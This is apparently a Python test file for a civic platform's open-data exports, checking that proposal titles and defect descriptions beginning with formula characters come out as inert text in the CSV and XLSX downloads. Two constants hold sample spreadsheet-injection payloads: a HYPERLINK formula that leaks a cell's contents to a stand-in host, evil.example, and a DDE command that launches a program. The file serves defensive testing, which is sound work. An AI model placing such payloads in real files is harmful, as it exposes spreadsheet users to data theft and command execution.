"""Open data downloads hand a spreadsheet no formula: a title or description starting with `=`, `+`, `-` or `@`
arrives as text in the CSV (leading apostrophe) and as a text cell in the XLSX."""

import csv
import io
from datetime import UTC, datetime, timedelta

from openpyxl import load_workbook

from tests.defects.factories import stored_report, town_with_categories
from tests.factories import INSIDE, person
from tests.proposals.factories import admin_of, consultation, proposal
from tests.support.moderation import decide, post_moderated

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
COMMAND = "+cmd|' /C calc'!A0"


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


async def test_a_proposal_title_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(client, taunusstein):
    await post_moderated(taunusstein)
    cid = await consultation(taunusstein, await admin_of(taunusstein))
    published = await proposal(taunusstein, cid, await person("eva@example.org"), title=HYPERLINK)
    await decide("proposal", published)  # screening holds links back; a moderator let this one through
    base = f"/api/v1/municipalities/taunusstein/consultations/{cid}/proposals"

    rows = csv_rows((await client.get(f"{base}.csv")).text)
    assert [r["Titel"] for r in rows] == ["'" + HYPERLINK]
    assert rows[0]["Nr."].isdigit()  # numbers stay numbers

    sheet = load_workbook(io.BytesIO((await client.get(f"{base}.xlsx")).content)).worksheets[0]
    title = sheet.cell(row=2, column=2)
    assert title.data_type == "s" and title.value == HYPERLINK  # a text cell: never evaluated


async def test_a_defect_description_that_looks_like_a_command_stays_text_in_the_csv(client, taunusstein):
    from defects.tables import Report

    town = await town_with_categories(taunusstein)
    report = await stored_report(town, INSIDE["lat"], INSIDE["lon"])
    await Report.update({Report.description: COMMAND}).where(Report.id == report)
    today = datetime.now(UTC).date()
    period = {"from": (today - timedelta(days=7)).isoformat(), "to": today.isoformat()}

    response = await client.get("/api/v1/municipalities/taunusstein/open-data/defect-reports.csv", params=period)
    rows = csv_rows(response.text)
    assert [r["Beschreibung"] for r in rows] == ["'" + COMMAND]
    assert float(rows[0]["Breite"]) == INSIDE["lat"]
